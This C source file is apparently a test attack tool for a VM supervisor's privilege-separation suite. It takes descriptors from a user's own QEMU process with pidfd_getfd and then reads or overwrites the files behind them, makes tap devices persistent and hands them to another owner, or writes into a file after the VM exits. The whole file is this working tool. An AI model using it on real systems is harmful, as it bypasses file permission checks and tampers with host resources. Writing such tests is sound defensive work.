/* pidfd_grab: what an unprivileged user can do with the files their own
 * QEMU holds. QEMU runs as that user and stays dumpable, so the user may
 * take any of its descriptors with pidfd_getfd(2) (ptrace's "attach"
 * rights: same uid, no Yama restriction needed) and use it as QEMU could:
 * without any permission check on the file itself.
 *
 *   pidfd_grab PID list                   every fd of PID and what it names
 *   pidfd_grab PID MATCH read             print the first 4 KiB of the first
 *                                         fd whose link contains MATCH
 *   pidfd_grab PID MATCH write FILE       replace its content with FILE's
 *                                         (ftruncate to 0, write at 0)
 *   pidfd_grab PID MATCH tap-keep UID     a tap fd: TUNSETPERSIST 1 and
 *                                         TUNSETOWNER UID, so the tap would
 *                                         outlive the VM as UID's
 *   pidfd_grab PID MATCH hold SECONDS     keep the fd open that long
 *   pidfd_grab PID MATCH write-after-exit SECONDS FILE
 *                                         keep the fd, wait until PID has
 *                                         exited and SECONDS more (its
 *                                         supervisor has finished with the
 *                                         file), then write FILE into it
 *
 * MATCH "fd:N" names fd N itself. Exit 0 when the action worked, 1 when
 * the kernel refused it (the message says which call), 2 for bad usage,
 * 3 when no fd matched. Built by the test build for tests/priv/attack/. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_tun.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static int find_fd(pid_t pid, const char *match)
{
    if (strncmp(match, "fd:", 3) == 0)
        return atoi(match + 3);
    char dir[64];
    snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
    DIR *d = opendir(dir);
    if (d == NULL) {
        fprintf(stderr, "pidfd_grab: %s: %s\n", dir, strerror(errno));
        return -1;
    }
    struct dirent *e;
    int found = -1;
    while ((e = readdir(d)) != NULL && found < 0) {
        if (e->d_name[0] == '.')
            continue;
        char link[128], target[4096];
        snprintf(link, sizeof(link), "%s/%s", dir, e->d_name);
        ssize_t n = readlink(link, target, sizeof(target) - 1);
        if (n <= 0)
            continue;
        target[n] = '\0';
        if (strstr(target, match) != NULL)
            found = atoi(e->d_name);
    }
    closedir(d);
    return found;
}

static int list(pid_t pid)
{
    char dir[64];
    snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
    DIR *d = opendir(dir);
    if (d == NULL)
        return 1;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        char link[128], target[4096];
        snprintf(link, sizeof(link), "%s/%s", dir, e->d_name);
        ssize_t n = readlink(link, target, sizeof(target) - 1);
        if (n > 0) {
            target[n] = '\0';
            printf("%s %s\n", e->d_name, target);
        }
    }
    closedir(d);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: pidfd_grab PID list | PID MATCH read|write FILE|tap-keep UID|"
                        "hold SECONDS\n");
        return 2;
    }
    pid_t pid = (pid_t)atoi(argv[1]);
    if (strcmp(argv[2], "list") == 0)
        return list(pid);
    if (argc < 4)
        return 2;
    const char *action = argv[3];
    int target_fd = find_fd(pid, argv[2]);
    if (target_fd < 0) {
        fprintf(stderr, "pidfd_grab: no fd of %d names '%s'\n", (int)pid, argv[2]);
        return 3;
    }
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) {
        fprintf(stderr, "pidfd_grab: pidfd_open %d: %s\n", (int)pid, strerror(errno));
        return 1;
    }
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, target_fd, 0);
    if (fd < 0) {
        fprintf(stderr, "pidfd_grab: pidfd_getfd %d/%d: %s\n", (int)pid, target_fd,
                strerror(errno));
        return 1;
    }
    if (strcmp(action, "read") == 0) {
        char buf[4096];
        ssize_t n = pread(fd, buf, sizeof(buf), 0);
        if (n < 0) {
            fprintf(stderr, "pidfd_grab: read: %s\n", strerror(errno));
            return 1;
        }
        fwrite(buf, 1, (size_t)n, stdout);
        return 0;
    }
    const char *content = argc == 5 ? argv[4] : NULL;
    if (strcmp(action, "write-after-exit") == 0 && argc == 6) {
        struct pollfd p = {.fd = pidfd, .events = POLLIN};
        while (poll(&p, 1, -1) < 0 && errno == EINTR)
            ;
        sleep((unsigned)atoi(argv[4]));
        action = "write";
        content = argv[5];
    }
    if (strcmp(action, "write") == 0 && content != NULL) {
        FILE *f = fopen(content, "rb");
        if (f == NULL)
            return 2;
        char buf[65536];
        size_t n = fread(buf, 1, sizeof(buf), f);
        fclose(f);
        if (ftruncate(fd, 0) < 0) {
            fprintf(stderr, "pidfd_grab: ftruncate: %s\n", strerror(errno));
            return 1;
        }
        if (pwrite(fd, buf, n, 0) != (ssize_t)n) {
            /* An O_APPEND file takes the bytes at its (now zero) end. */
            if (errno != EINVAL || write(fd, buf, n) != (ssize_t)n) {
                fprintf(stderr, "pidfd_grab: write: %s\n", strerror(errno));
                return 1;
            }
        }
        return 0;
    }
    if (strcmp(action, "tap-keep") == 0 && argc == 5) {
        if (ioctl(fd, TUNSETPERSIST, 1) < 0) {
            fprintf(stderr, "pidfd_grab: TUNSETPERSIST: %s\n", strerror(errno));
            return 1;
        }
        if (ioctl(fd, TUNSETOWNER, (unsigned long)atol(argv[4])) < 0) {
            fprintf(stderr, "pidfd_grab: TUNSETOWNER: %s\n", strerror(errno));
            return 1;
        }
        return 0;
    }
    if (strcmp(action, "hold") == 0 && argc == 5) {
        sleep((unsigned)atoi(argv[4]));
        return 0;
    }
    fprintf(stderr, "pidfd_grab: unknown action '%s'\n", action);
    return 2;
}
